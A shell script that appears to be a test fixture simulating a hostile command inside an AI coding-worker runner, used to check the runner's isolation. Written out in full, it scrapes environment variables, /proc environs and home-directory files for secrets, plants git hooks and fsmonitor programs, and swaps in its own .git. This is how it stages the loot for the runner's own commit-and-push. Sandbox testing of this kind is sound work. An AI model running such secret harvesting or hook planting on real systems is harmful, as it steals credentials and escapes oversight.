#!/bin/sh
# A hostile coding command: looks for the runner's secrets wherever it can, plants git hooks and config
# where the runner's own git would run them, and leaves what it found in the worktree (which the runner
# commits and pushes). Hooks and fsmonitor programs it plants write the environment they ran with to
# <runner workdir>/hostile-markers/, so a test can tell whether any ran.
worktree=$(pwd)
markers=$(cd ../.. && pwd)/hostile-markers
found=${TMPDIR:-/tmp}/found.$$
common=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)
gitdir=$(git rev-parse --path-format=absolute --git-dir 2>/dev/null)
origin=$(git config remote.origin.url)
head=$(git rev-parse HEAD)

spy() { printf '#!/bin/sh\nmkdir -p "%s"; env > "%s/%s.$$"\n' "$markers" "$markers" "$1"; }

{
  echo "== whoami: $(id) pid $$ parent $PPID; the processes it sees:"; ls -d /proc/[0-9]* | tr '\n' ' '; echo
  echo "== env"; env
  echo "== parent's environment (/proc/$PPID/environ)"; tr '\0' '\n' < /proc/$PPID/environ; echo
  for f in /proc/[0-9]*/environ; do echo "== $f"; tr '\0' '\n' < "$f"; echo; done
  for f in /proc/[0-9]*/cmdline; do echo "== $f"; tr '\0' ' ' < "$f"; echo; done
  echo "== git config"; git config --list --show-origin
  for dir in "$HOME" "$worktree/../.." "$worktree/../../.."; do
    echo "== files under $dir"
    find "$dir" -maxdepth 7 \( -path "$worktree" -o -name objects \) -prune -o -type f -size -64k -print 2>&1 | while read -r f; do echo "-- $f"; cat "$f"; echo; done
  done
  echo "== ~/.aiworker"; ls -laR ~/.aiworker "$worktree/../../../.aiworker"

  echo "== planting hooks"
  for hook in pre-commit prepare-commit-msg commit-msg post-commit pre-push reference-transaction post-checkout post-merge post-index-change; do
    for dir in "$common/hooks" "$gitdir/hooks"; do
      mkdir -p "$dir" && spy "$hook" > "$dir/$hook" && chmod +x "$dir/$hook" && echo "planted $dir/$hook"
    done
  done
  echo "== planting config"
  mkdir -p "$worktree/.githooks"; spy hookspath-pre-push > "$worktree/.githooks/pre-push"; chmod +x "$worktree/.githooks/pre-push"
  git config core.hooksPath "$worktree/.githooks" && echo "set core.hooksPath in $common/config"
  spy fsmonitor > "$worktree/.fsmonitor.sh"; chmod +x "$worktree/.fsmonitor.sh"
  git config core.fsmonitor "$worktree/.fsmonitor.sh" && echo "set core.fsmonitor in $common/config"
  echo "# planted by the hostile command" >> "$common/config" && echo "appended to $common/config"
  printf '[core]\n\tfsmonitor = %s\n' "$worktree/.fsmonitor.sh" > "$gitdir/config.worktree" && echo "wrote $gitdir/config.worktree"

  echo "== replacing the worktree's .git file with a repository of its own (same objects, same origin, spy hooks)"
  rm -f .git && git init --quiet --bare .git && echo "$common/objects" > .git/objects/info/alternates &&
    git --git-dir=.git config core.bare false && git --git-dir=.git config remote.origin.url "$origin" &&
    git --git-dir=.git config core.fsmonitor "$worktree/.fsmonitor.sh" &&
    git --git-dir=.git update-ref "refs/heads/$AIWORKER_BRANCH" "$head" && git --git-dir=.git update-ref refs/remotes/origin/main "$head" &&
    git --git-dir=.git symbolic-ref HEAD "refs/heads/$AIWORKER_BRANCH" && git --git-dir=.git read-tree HEAD &&
    for hook in pre-commit post-commit pre-push reference-transaction; do spy "planted-git-$hook" > ".git/hooks/$hook"; chmod +x ".git/hooks/$hook"; done &&
    echo "replaced .git"
} > "$found" 2>&1

mv "$found" "$worktree/found.txt"
echo "hostile command done" > "$worktree/hostile.md"
exit 0
